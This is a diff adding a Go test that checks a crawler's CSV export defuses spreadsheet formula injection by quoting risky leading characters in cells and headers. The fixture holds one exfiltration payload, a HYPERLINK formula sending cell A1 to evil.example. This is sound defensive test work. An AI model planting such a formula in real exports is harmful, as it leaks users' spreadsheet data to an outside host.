@@ -176,6 +176,52 @@ items:
 	}
 }
 
+// TestExportCSVFormulasNeutralised: values a spreadsheet would run as a
+// formula (= + - @ tab CR first) come out after a single quote, in cells
+// and in the header (a data key is the page's choice too); numbers and
+// other text are left as they are. The jsonl export keeps them as stored.
+func TestExportCSVFormulasNeutralised(t *testing.T) {
+	cells := map[string]string{
+		`=HYPERLINK("http://evil.example/?"&A1,"click")`: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		"+1+1":       "'+1+1",
+		"@SUM(1)":    "'@SUM(1)",
+		"-2+3":       "'-2+3",
+		"\tx":        "'\tx",
+		"\r=1":       "'\r=1",
+		"-":          "'-",
+		"-5":         "-5",
+		"+3.2":       "+3.2",
+		"-1.5e3":     "-1.5e3",
+		"12":         "12",
+		"a=1":        "a=1",
+		"":           "",
+		"plain text": "plain text",
+	}
+	var data []map[string]any
+	var in []string
+	for v := range cells {
+		in = append(in, v)
+	}
+	slices.Sort(in)
+	for _, v := range in {
+		data = append(data, map[string]any{"v": v, "=key": "x"})
+	}
+	_, out := exportCrawl(t, scriptSpec, "csv", data)
+	header, rows := readCSV(t, out)
+	if want := []string{"url", "spider", "crawl", "depth", "fetched_at", "'=key", "v"}; !slices.Equal(header, want) {
+		t.Fatalf("csv header %q, want %q", header, want)
+	}
+	for i, v := range in {
+		if rows[i]["v"] != cells[v] {
+			t.Errorf("value %q: cell %q, want %q", v, rows[i]["v"], cells[v])
+		}
+	}
+	stored, out := exportCrawl(t, scriptSpec, "jsonl", data)
+	if want := string(bytes.Join(stored, []byte("\n"))) + "\n"; out != want {
+		t.Errorf("jsonl export:\n%s\nwant the stored items:\n%s", out, want)
+	}
+}
+
 // BenchmarkExport: one export of a crawl of 20000 items with a few keys
 // each, jsonl (one read) and csv (two reads), from a real RESULTS stream.
 func BenchmarkExport(b *testing.B) {
